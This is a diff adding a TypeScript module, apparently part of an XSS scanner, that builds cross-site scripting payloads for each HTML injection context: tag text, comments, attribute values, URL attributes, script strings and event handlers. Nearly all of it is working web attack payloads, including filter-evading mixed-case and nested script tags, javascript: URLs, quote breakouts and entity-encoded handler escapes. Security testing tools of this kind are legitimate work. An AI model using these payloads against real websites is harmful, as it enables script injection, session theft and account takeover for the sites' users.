@@ -1,0 +1,123 @@
+import type { CodeContext, Context } from './contexts.ts';
+
+/** Ways to make a browser call `call` that stand on their own in a page's text. */
+const tags = (call: string): string[] => [
+  `<img src=x onerror=${call}()>`,
+  `<script>${call}()</script>`,
+  `<svg/onload=${call}()>`,
+  `<ScRiPt>${call}()</sCrIpT>`,
+  `<details open ontoggle=${call}\`\`>`,
+  // For filters that take a word out once.
+  `<scr<script>ipt>${call}()</scr</script>ipt>`,
+];
+
+/** Up to eight payloads that fit one context, the likeliest first. Each calls `call` when it works. */
+export function payloadsFor(context: Context, call: string): string[] {
+  switch (context.kind) {
+    case 'text':
+      return context.inside === ''
+        ? tags(call)
+        : tags(call)
+            .slice(0, 4)
+            .map((tag) => `</${context.inside}>${tag}`);
+    case 'comment':
+      return tags(call)
+        .slice(0, 3)
+        .flatMap((tag) => [`-->${tag}`, `--!>${tag}`]);
+    case 'tagName':
+      return [
+        `img src=x onerror=${call}() `,
+        ...tags(call)
+          .slice(0, 2)
+          .map((tag) => `x>${tag}`),
+      ];
+    case 'attributeName':
+      return [`onmouseover=${call}() x`, `x onfocus=${call}() autofocus `, `x>${tags(call)[0]}`];
+    case 'attribute':
+      return inAttribute(context, call);
+    case 'script':
+      return [
+        ...inCode(context.code, call),
+        `</script>${tags(call)[0]}`,
+        `</script>${tags(call)[1]}`,
+      ];
+    case 'handler':
+      return inHandler(context.code, context.quote, call);
+  }
+}
+
+const urlLike = /^(?:href|src|action|formaction|data)$/;
+
+function inAttribute(context: Extract<Context, { kind: 'attribute' }>, call: string): string[] {
+  const { quote, atStart, name } = context;
+  const asUrl =
+    atStart && urlLike.test(name)
+      ? [
+          `javascript:${call}()`,
+          `JaVaScRiPt:${call}()//`,
+          `java\tscript:${call}()`,
+          `data:text/javascript,${call}()`,
+        ]
+      : [];
+  const out =
+    quote === ''
+      ? [
+          `x onmouseover=${call}() `,
+          `x/onmouseover=${call}()`,
+          `x>${tags(call)[0]}`,
+          `x>${tags(call)[1]}`,
+        ]
+      : [
+          `${quote}>${tags(call)[0]}`,
+          `${quote} onmouseover=${call}() x=${quote}`,
+          `${quote} autofocus onfocus=${call}\`\` x=${quote}`,
+          `${quote}/onmouseover=${quote}${call}()`,
+          `${quote}>${tags(call)[1]}`,
+        ];
+  return [...asUrl, ...out];
+}
+
+function inCode(code: CodeContext, call: string): string[] {
+  switch (code) {
+    case 'single':
+      return [
+        `'-${call}()-'`,
+        `';${call}();//`,
+        `');${call}();//`,
+        `\\'-${call}()//`,
+        `\\');${call}()//`,
+        `'}${call}();{'`,
+      ];
+    case 'double':
+      return [
+        `"-${call}()-"`,
+        `";${call}();//`,
+        `");${call}();//`,
+        `\\"-${call}()//`,
+        `\\");${call}()//`,
+        `"}${call}();{"`,
+      ];
+    case 'template':
+      return [`\${${call}()}`, `\`-${call}()-\``];
+    case 'line':
+      return [`\n${call}()//`, `\u2028${call}()//`];
+    case 'block':
+      return [`*/${call}()/*`];
+    case 'bare':
+      return [`${call}()`, `1;${call}()//`, `1,${call}()`, `1);${call}();//`, `x=${call}()`];
+  }
+}
+
+/** Inside an attribute the browser first decodes entities, so an escaped quote is as good as a quote. */
+function inHandler(code: CodeContext, quote: string, call: string): string[] {
+  const plain = inCode(code, call);
+  const entity = plain
+    .slice(0, 3)
+    .map((payload) => payload.replaceAll("'", '&#39;').replaceAll('"', '&quot;'));
+  const out = quote === '' ? [] : [`${quote} onmouseover=${call}() x=${quote}`];
+  return [
+    ...plain.filter((payload) => quote === '' || !payload.includes(quote)),
+    ...entity,
+    ...out,
+  ].slice(0, 8);
+}
